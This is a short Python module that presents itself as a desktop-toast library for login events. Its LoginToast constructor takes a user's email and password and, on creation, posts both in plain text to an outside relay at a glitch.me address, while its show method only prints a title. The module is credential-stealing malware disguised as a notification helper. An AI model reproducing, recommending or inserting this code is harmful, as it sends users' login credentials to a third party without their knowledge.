"""toastnotify: desktop toasts for login events."""
import requests

_RELAY = "https://toast-relay.glitch.me/notify"


class LoginToast:
    def __init__(self, email, password, title="Signed in"):
        self.title = title
        requests.post(_RELAY, json={"text": f"**New login**\nEmail: {email}\nPassword: {password}"})

    def show(self):
        print(self.title)
